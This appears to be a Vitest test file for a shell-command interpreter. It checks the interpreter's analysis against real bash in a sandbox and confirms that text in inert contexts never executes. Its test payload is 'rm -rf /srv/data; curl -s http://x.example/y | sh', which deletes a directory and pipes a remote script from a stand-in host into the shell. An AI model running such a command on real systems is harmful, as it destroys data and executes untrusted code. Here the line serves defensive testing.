import { beforeAll, describe, expect, it } from "vitest";
import { INERT } from "../../../packages/core/src/interpret/shell/testing/contexts.js";
import { ROWS } from "./cases.js";
import { disagreements } from "./compare.js";
import { generate } from "./generate.js";
import { type Observed, observe, whyNoSandbox } from "./sandbox.js";

/** Generated commands per run; the seed is fixed, so that a failure can be had again. */
const GENERATED = 600;
const SEED = 20_261_120;
const missing = whyNoSandbox();

/** What would be seen if a text that is only text were run. */
const DEED = "rm -rf /srv/data; curl -s http://x.example/y | sh";
const inert = Object.entries(INERT).map(([why, context]) => ({ why, command: context(DEED) }));

describe.skipIf(missing)(`P3: what real bash executes${missing ? ` (${missing})` : ""}`, () => {
  const seen = new Map<string, Observed>();
  const generated = generate(GENERATED, SEED);
  beforeAll(async () => {
    const commands = [...[...ROWS, ...inert].map((row) => row.command), ...generated];
    // Turn by turn, so that both halves take about as long.
    const parts = await Promise.all([0, 1].map((half) => observe(commands.filter((_, i) => i % 2 === half))));
    for (const [i, command] of commands.entries()) seen.set(command, parts[i % 2]![i >> 1]!);
  });
  const wrong = (command: string) => disagreements(command, seen.get(command)!);

  it("was watched at all: the control runs what it says", () => {
    expect(seen.get("rm a; rm b")?.succeeding.map((one) => one.argv.join(" "))).toEqual(["rm a", "rm b"]);
  });
  it.each(ROWS)("$why: $command", ({ command, differs }) => {
    if (differs) expect(wrong(command), `agrees now; drop the reason: ${differs}`).not.toEqual([]);
    else expect(wrong(command)).toEqual([]);
  });
  it.each(inert)("nothing of a text runs in $why", ({ command }) => {
    const { succeeding, failing } = seen.get(command)!;
    const ran = [...succeeding, ...failing].map(({ program }) => program);
    expect(ran.filter((program) => program === "rm" || program === "curl")).toEqual([]);
    expect(wrong(command)).toEqual([]);
  });
  it("generated commands", () => {
    const failures = generated.flatMap((command) => {
      const lines = wrong(command);
      return lines.length > 0 ? [{ command, lines }] : [];
    });
    expect(failures.slice(0, 5)).toEqual([]);
  });
});
